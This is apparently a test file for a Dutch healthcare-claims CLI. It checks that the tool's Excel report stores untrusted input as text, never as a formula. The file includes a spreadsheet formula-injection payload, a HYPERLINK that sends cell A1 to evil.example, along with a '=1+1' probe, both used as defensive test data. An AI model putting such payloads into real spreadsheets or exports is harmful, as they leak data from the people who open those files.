import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { xlsxBytes, xlsxText } from '../../src/report/xlsx-writer.js';
import { runCli, smallExport, tempDir } from '../support/cli.js';

const HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"klik")';

/** The small export with a formula for a name, a formula for a soort (a reject) and a control character in a rejected value. */
function exportWithFormulas(dir: string): string {
  smallExport(dir);
  const edit = (name: string, f: (text: string) => string) => writeFileSync(join(dir, name), f(readFileSync(join(dir, name), 'utf8')));
  edit('zorgverleners.csv', (t) => t.replace('ZV-BUSY,Zorg Één,', `ZV-BUSY,"${HOSTILE_NAME.replace(/"/g, '""')}",`) + 'ZV-BAD,Derde,=1+1,07654322,X3,I3\n');
  edit('declaraties.csv', (t) => t + 'D6,BH3,ZV-OK,2025-03-06,09:00,13:00,4\x01,38.00,152.00\n');
  return dir;
}

async function readWorkbook(bytes: Buffer): Promise<ExcelJS.Workbook> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(bytes as unknown as ArrayBuffer);
  return wb;
}

/** A sheet's rows as values, the header first. */
function values(ws: ExcelJS.Worksheet): unknown[][] {
  const rows: unknown[][] = [];
  ws.eachRow({ includeEmpty: true }, (row) => rows.push((row.values as unknown[]).slice(1)));
  return rows;
}

async function collect(chunks: AsyncIterable<Uint8Array>): Promise<Buffer> {
  const parts: Buffer[] = [];
  for await (const c of chunks) parts.push(Buffer.from(c));
  return Buffer.concat(parts);
}

afterEach(() => {
  vi.useRealTimers();
});

describe('overzicht.xlsx', () => {
  it('holds the five sheets with typed cells, a frozen header with filters, and input text as text', async () => {
    const dir = exportWithFormulas(tempDir());
    const out = join(tempDir(), 'out');
    const r = await runCli(['scan', dir, '--out', out, '--max-reject-rate', '1']);
    expect(r.code, r.stderr).toBe(0);
    const bytes = readFileSync(join(out, 'overzicht.xlsx'));
    const manifest = JSON.parse(readFileSync(join(out, 'manifest.json'), 'utf8'));
    expect(manifest.outputs.find((o: { name: string }) => o.name === 'overzicht.xlsx')?.bytes).toBe(bytes.length);

    const wb = await readWorkbook(bytes);
    expect(wb.worksheets.map((w) => w.name)).toEqual(['Zorgverleners', 'Budgethouders (zorgwekkend)', 'Signalen', 'Afgewezen', 'Invoer']);
    for (const ws of wb.worksheets) {
      expect(ws.views[0], ws.name).toMatchObject({ state: 'frozen', ySplit: 1 });
      expect(ws.autoFilter, ws.name).toBeTruthy();
      expect(ws.getRow(1).font?.bold, ws.name).toBe(true);
      for (const col of ws.columns) expect(col.width, ws.name).toBeGreaterThanOrEqual(7);
    }

    // The provider ranking matches providers.csv, with numbers as numbers and the name as a string cell.
    const providers = wb.getWorksheet('Zorgverleners')!;
    const csv = readFileSync(join(out, 'providers.csv'), 'utf8').trim().split('\n');
    const providerRows = values(providers);
    expect(providerRows[0]).toEqual(csv[0].split(','));
    const busy = providerRows.find((row) => row[1] === 'ZV-BUSY')!;
    expect(busy[2]).toBe(HOSTILE_NAME);
    const nameCell = providers.getCell(providerRows.indexOf(busy) + 1, 3);
    expect(nameCell.type).toBe(ExcelJS.ValueType.String);
    expect(nameCell.formula).toBeUndefined();
    const amountCell = providers.getCell(providerRows.indexOf(busy) + 1, 8);
    expect(amountCell.type).toBe(ExcelJS.ValueType.Number);
    expect(amountCell.value).toBe(1160);
    expect(amountCell.numFmt).toContain('€');
    expect(providers.getCell(2, 1).value).toBe(1);
    const score = providers.getCell(2, 4);
    expect([score.type, score.value]).toEqual([ExcelJS.ValueType.Number, Number((parse(csv.join('\n')) as string[][])[1][3])]);
    // No cell anywhere is a formula.
    const cells = wb.worksheets.flatMap((ws) => values(ws).flat());
    expect(cells.some((v) => typeof v === 'object' && v !== null && !(v instanceof Date))).toBe(false);

    const rejects = values(wb.getWorksheet('Afgewezen')!);
    expect(rejects[0]).toEqual(['file', 'line', 'column', 'value', 'code', 'message']);
    expect(rejects.find((row) => row[2] === 'soort')?.slice(0, 5)).toEqual(['zorgverleners.csv', 4, 'soort', '=1+1', 'INVALID_ENUM']);
    // XML cannot hold a control character; it is shown, not dropped.
    expect(rejects.find((row) => row[2] === 'uren')?.[3]).toBe('4\\x01');

    const inputs = wb.getWorksheet('Invoer')!;
    const inputRows = values(inputs);
    const decl = inputRows.find((row) => row[0] === 'declaraties')!;
    expect(decl.slice(8, 12)).toEqual([6, 5, 1, 0]);
    const asOf = inputs.getCell(inputRows.indexOf(decl) + 1, 15);
    expect(asOf.type).toBe(ExcelJS.ValueType.Date);
    expect(asOf.value).toEqual(new Date(`${manifest.asOf}T00:00:00Z`));

    const signals = values(wb.getWorksheet('Signalen')!);
    const ndjson = readFileSync(join(out, 'signals.ndjson'), 'utf8').trim().split('\n').map((l) => JSON.parse(l));
    expect(signals.slice(1).map((row) => row[2])).toEqual(ndjson.map((s) => s.key));
    expect(values(wb.getWorksheet('Budgethouders (zorgwekkend)')!).slice(1).every((row) => row[2] === 'zorgwekkend')).toBe(true);
  });

  it('gives the same bytes on a rerun at another time', async () => {
    const dir = exportWithFormulas(tempDir());
    const runAt = async (now: string) => {
      vi.useFakeTimers({ toFake: ['Date'], now: new Date(now) });
      try {
        const out = join(tempDir(), 'out');
        const r = await runCli(['scan', dir, '--out', out, '--max-reject-rate', '1']);
        expect(r.code, r.stderr).toBe(0);
        return readFileSync(join(out, 'overzicht.xlsx'));
      } finally {
        vi.useRealTimers();
      }
    };
    const first = await runAt('2031-05-05T10:00:01Z');
    const second = await runAt('2038-11-20T23:59:58Z');
    expect(first.equals(second)).toBe(true);
  });

  it('continues a sheet past the row limit on a numbered next sheet', async () => {
    const rows = Array.from({ length: 7 }, (_, i) => [`r${i + 1}`, i + 1]);
    const bytes = await collect(
      xlsxBytes(
        [
          { name: 'Signalen', columns: [{ header: 'id', kind: 'text', width: 8 }, { header: 'n', kind: 'integer', width: 6 }], rows },
          { name: 'Leeg', columns: [{ header: 'x', kind: 'text', width: 8 }], rows: [] },
        ],
        { maxRows: 3 },
      ),
    );
    const wb = await readWorkbook(bytes);
    expect(wb.worksheets.map((w) => w.name)).toEqual(['Signalen', 'Signalen 2', 'Signalen 3', 'Signalen 4', 'Leeg']);
    expect(wb.worksheets.slice(0, 4).map(values)).toEqual([
      [['id', 'n'], ['r1', 1], ['r2', 2]],
      [['id', 'n'], ['r3', 3], ['r4', 4]],
      [['id', 'n'], ['r5', 5], ['r6', 6]],
      [['id', 'n'], ['r7', 7]],
    ]);
    expect(values(wb.worksheets[4])).toEqual([['x']]);
  });
});

describe('xlsxText', () => {
  it.each([
    ['=1+1', '=1+1'],
    ['a\x00b\x1Fc\x7F', 'a\\x00b\\x1Fc\\x7F'],
    ['tab\tand\nline', 'tab\tand\nline'],
    ['_x0041_', '_x005F_x0041_'],
  ])('%j -> %j', (input, expected) => expect(xlsxText(input)).toBe(expected));

  it("cuts text past Excel's cell limit, saying how long it was", () => {
    const s = xlsxText('a'.repeat(40_000));
    expect(s.length).toBe(32_767);
    expect(s.endsWith(' [... 40000 tekens]')).toBe(true);
  });
});
